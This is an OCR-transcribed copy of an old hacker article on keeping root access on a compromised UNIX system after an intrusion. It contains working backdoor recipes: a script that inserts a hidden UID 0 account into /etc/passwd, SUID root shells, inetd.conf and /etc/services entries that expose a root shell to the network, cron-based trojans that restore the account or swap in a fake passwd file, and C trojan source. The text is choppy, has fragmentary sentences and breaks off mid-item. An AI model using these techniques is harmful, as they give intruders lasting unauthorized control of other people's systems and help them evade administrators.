You are on page 1of 9

Ok.....You've been at it for all night. Trying all the exploits you can think of.

The system seems tight. The system looks tight.

The system *is* tight. You've tried everything. Default passwds, guessable
passwds, NIS weaknesses, NFS holes, incorrect
permissions, race conditions, SUID exploits, Sendmail bugs, and so on... Nothing.
WAIT! What's that!?!? A "#" ???? Finally!
After seeming endless toiling, you've managed to steal root. Now what? How do you
hold onto this precious super-user
privilege you have worked so hard to achieve....?

This article is intended to show you how to hold onto root once you have it. It is
intended for hackers and administrators alike.
From a hacking perspective, it is obvious what good this paper will doyou.
Admin's can likewise benefit from this paper. Ever
wonder how that pesky hacker always manages to pop up, even when you think you've
completely eradicated him from your
This list is BY NO MEANS comprehensive. There are as many ways to leave backdoors
into a UNIX computer as there are
ways into one.


Know the location of critical system files. This should be obvious (If you can't
list any of the top of your head, stop reading
now, get a book on UNIX, read it, then come back to me...). Familiarity with
passwd file formats (including general 7 field
format, system specific naming conventions, shadowing mechanisms, etc...). Know
vi. Many systems will not have those
robust, user-friendly editors such as Pico and Emacs. Vi is also quite useful for
needing to quickly seach and edit a large file. If
you are connecting remotely (via dial-up/telnet/rlogin/whatver) it's always nice
to have a robust terminal programthat has a
nice, FAT scrollback buffer. This will come in handy if you want to cut and paste
code, rc files, shell scripts, etc...

The permenance of these backdoors will depend completely on the technical saavy of
the administrator. The experienced and
skilled administrator will be wise to many (if not all) of these backdoors. But,
ifyou have managed to steal root, it is likely the
admin isn't as skilled (or up to date on bug reports) as she should be, and many
of these doors may be in place for some time
to come. One major thing to be aware of, is the fact that if you can cover you
tracks during the initial break-in, no one will be
looking for back doors.

The Overt

[1] Add a UID 0 account to the passwd file. This is probably the most obvious and
quickly discovered method of rentry. It
flies a red flag to the admin, saying "WE'RE UNDER ATTACK!!!". If you must do
this, my advice is DO NOT simply
prepend or append it. Anyone causally examining the passwd filewill see this. So,
why not stick it in the middle...

# Inserts a UID 0 account into the middle of the passwd file.
# There is likely a way to do this in 1/2 a line of AWK or SED. Oh well.

set linecount = `wc -l /etc/passwd`

cd # Do this at home.
cp /etc/passwd ./temppass # Safety first.
echo passwd file has $linecount[1] lines.
@ linecount[1] /= 2
@ linecount[1] += 1 # we only want 2 temp files
echo Creating two files, $linecount[1] lines each \(or approximately that\).
split -$linecount[1] ./temppass # passwd string optional
echo "EvilUser::0:0:Mr. Sinister:/home/sweet/home:/bin/csh" >> ./xaa
cat ./xab >> ./xaa
mv ./xaa /etc/passwd
chmod 644 /etc/passwd # orwhatever it was beforehand
rm ./xa* ./temppass
echo Done...

NEVER, EVER, change the root password. The reasons are obvious.

[2] In a similar vein, enable a disabled account as UID 0, such as Sync. Or,
perhaps, an account somwhere buried deep in the
passwd file has been abandoned, and disabled by the sysadmin. Change her UID to 0
(and remove the '*' from the second

[3] Leave an SUID root shell in /tmp.

# Everyone's favorite...

cp /bin/csh /tmp/.evilnaughtyshell # Don't name it that...

chmod 4755 /tmp/.evilnaughtyshell

Manysystems run cron jobs to clean /tmp nightly. Most systems clean /tmp upon a
reboot. Many systems have /tmp mounted
to disallow SUID programs from executing. You can change all of these, but if the
filesystem starts filling up, people may
notice...but, hey, this *is* the overt section....). I will not detail the changes
neccessary because they can be quite system
specific. Check out/var/spool/cron/crontabs/root and /etc/fstab.

The Veiled

[4] The super-server configuration file is not the first place a sysadmin will
look, so why not put one there? First, some
background info: The Internet daemon (/etc/inetd) listens for connection requests
on TCP and UDP ports and spawns the
appropriate program (usally a server) when a connection request arrives. The
format of the /etc/inetd.conf file is simple. Typical
lines look like this:

(1) (2) (3) (4) (5) (6) (7)

ftp stream tcp nowait root /usr/etc/ftpd ftpd
talk dgram udp wait root /usr/etc/ntalkd ntalkd
Field (1) is the daemon name that should appear in /etc/services. This tells inetd
what to look for in /etc/services to determine
which port it should associate the program name with. (2) tells inetd which type
of socket connection the daemon will expect.
TCP uses streams, and UDP uses datagrams. Field (3) is the protocol field which is
either of the two transport protocols, TCP
or UDP. Field (4) specifies whether or not the daemon is iterative or concurrent.
A 'wait' flag indicates that the server will
process a connection and make all subsequent connections wait. 'Nowait' means theserver will accept a connection, spawn a
child process to handle the connection, and then go back to sleep, waiting for
further connections. Field (5) is the user (or more
inportantly, the UID) that the daemon is run as. (6) is the program to run when a
connection arrives, and (7) is the actual
command (and optional arguments). If the program is trivial (usally requiring no
user interaction) inetd may handle it internally.
This is done with an 'internal' flag in fields (6) and (7).
So, to install a handy backdoor, choose a service that is not used often, and
replace the daemon that would normally handle itwith something else. A program that creates an SUID root shell, a program that
adds a root account for you in the /etc/passwd
file, etc...
For the insinuation-impaired, try this:

Open the /etc/inetd.conf in an available editor. Find the line that reads:

daytime stream tcp nowait root internal

and change it to:

daytime stream tcp nowait /bin/sh sh -i.

You now need to restart /etc/inetd so it will reread the config file. It is up to
you how you want to do this. You can kill and
restart the process, (kill -9 , /usr/sbin/inetd or /usr/etc/inetd) which will
interuppt ALL network connections (so it is a good idea
to do this off peak hours).[5] An option to compromising a well known service would be to install a new one,
that runs a program of your choice. One
simple solution is to set up a shell the runs similar to the above backdoor. You
need to make sure the entry appears in
/etc/services as well as in /etc/inetd.conf. The format of the /etc/services file
is simple:

(1) (2)/(3) (4)

smtp 25/tcp mail

Field (1) is the service, field (2) is the port number, (3) is the protocol type
the service expects, and (4) is the common name
associated with the service. For instance, add this line to /etc/services:evil 22/tcp evil

and this line to /etc/inetd.conf:

evil stream tcp nowait /bin/sh sh -i

Restart inetd as before.

Note: Potentially, these are a VERY powerful backdoors. They not only offer local
rentry from any account on the system,
they offerrentry from *any* account on *any* computer on the Internet.

[6] Cron-based trojan I. Cron is a wonderfulsystem administration tool. It is

also a wonderful tool for backdoors, since root's
crontab will, well, run as root... Again, depending on the level of experience of
the sysadmin (and the implementation), this
backdoor may or may not last. /var/spool/cron/crontabs/root is where root's list
for crontabs is usally located. Here, you have
several options. I will list a only few, as cron-based backdoors are only limited
by your imagination. Cron is the clock daemon.
It is a tool for automatically executing commands at specified dates and times.
Crontab is the command used to add, remove,
or view your crontab entries. It is just as easy to manually edit the
/var/spool/crontab/root file as it is to use crontab. A crontab
entry has six fields:

(1) (2) (3) (4) (5) (6)

0 0 * * 1 /usr/bin/updatedb

Fields (1)-(5) are as follows: minute (0-59), hour (0-23), day of the month (1-31)
month of the year (1-12), day of the week
(0-6). Field (6) is the command (or shell script) to execute. The above shell
script is executed on Mondays. To exploit cron,
simply add an entry into /var/spool/crontab/root. For example: You can have a
cronjob that will run daily and look in the
/etc/passwd file for the UID 0 account we previously added,and add him if he ismissing, or do nothing otherwise (it may not
be a bad idea to actually *insert* this shell code into an already installed
crontab entry shell script, to further obfuscate your
shady intentions). Add this line to /var/spool/crontab/root:

0 0 * * * /usr/bin/trojancode

This is the shell script:

# Is our eviluser still on the system? Let's make sure he is.

set evilflag = (`grep eviluser /etc/passwd`)

if($#evilflag == 0) then # Is he there?

set linecount = `wc -l /etc/passwd`

cd # Do this at home.
cp /etc/passwd ./temppass # Safety first.
@ linecount[1] /= 2
@ linecount[1] += 1 # we only want 2 temp files
split -$linecount[1] ./temppass # passwd string optional
echo "EvilUser::0:0:Mr. Sinister:/home/sweet/home:/bin/csh" >> ./xaa
cat ./xab >> ./xaa
mv ./xaa /etc/passwd
chmod 644 /etc/passwd # or whatever it was beforehand
rm ./xa* ./temppass
echo Done...

[7] Cron-based trojan II. This one was brought to my attention by our very own Mr.
Zippy. For this, you need a copy of the/etc/passwd file hidden somewhere. In this hidden passwd file (call it
/var/spool/mail/.sneaky) we have but one entry, a root
account with a passwd of your choosing. We run a cronjob that will, every morning
at 2:30am (or every other morning), save a
copy of the real /etc/passwd file, and install this trojan one as the real
/etc/passwd file for one minute (synchronize swatches!).
Any normal user or process trying to login or access the /etc/passwd file would
get an error, but one minute later, everything
would be ok. Add this line to root's crontab file:

29 2 * * * /bin/usr/sneakysneaky_passwd

make sure this exists:#echo "root:1234567890123:0:0:Operator:/:/bin/csh" > /var/spool/mail/.sneaky

and this is the simple shell script:

# Install trojan /etc/passwd file for one minute

cp /etc/passwd /etc/.temppass
cp /var/spool/mail/.sneaky /etc/passwd
sleep 60
mv /etc/.temppass /etc/passwd

[8] Compiled code trojan. Simple idea. Instead of a shell script, have some nice C
code to obfuscate the effects. Here it is.
Make sure it runs as root. Name it something innocous. Hide it well.

/* A little trojan to create an SUID root shell, if the proper argument is

given. C code, rather than shell to hide obvious it's effects. */
/* */


#define KEYWORD "industry3"

#define BUFFERSIZE 10

int main(argc, argv)

int argc;
char *argv[];{

int i=0;

if(argv[1]){ /* we've got an argument, is it the keyword? */


/* This is the trojan part. */

system("cp /bin/csh /bin/.swp121");
system("chown root /bin/.swp121");
system("chmod 4755 /bin/.swp121");
/* Put your possibly system specific trojanmessages here */
/* Let's look like we're doing something... */
printf("Sychronizing bitmap image records.");
/* system("ls -alR / >& /dev/null > /dev/null&"); */
} /* End main */

[9] The sendmail aliases file. The sendmail aliases file allows for mail sent to a
particular username to either expand to several
users, or perhaps pipe the output to a program. Most well known of these is the
uudecode alias trojan. Simply add the line:

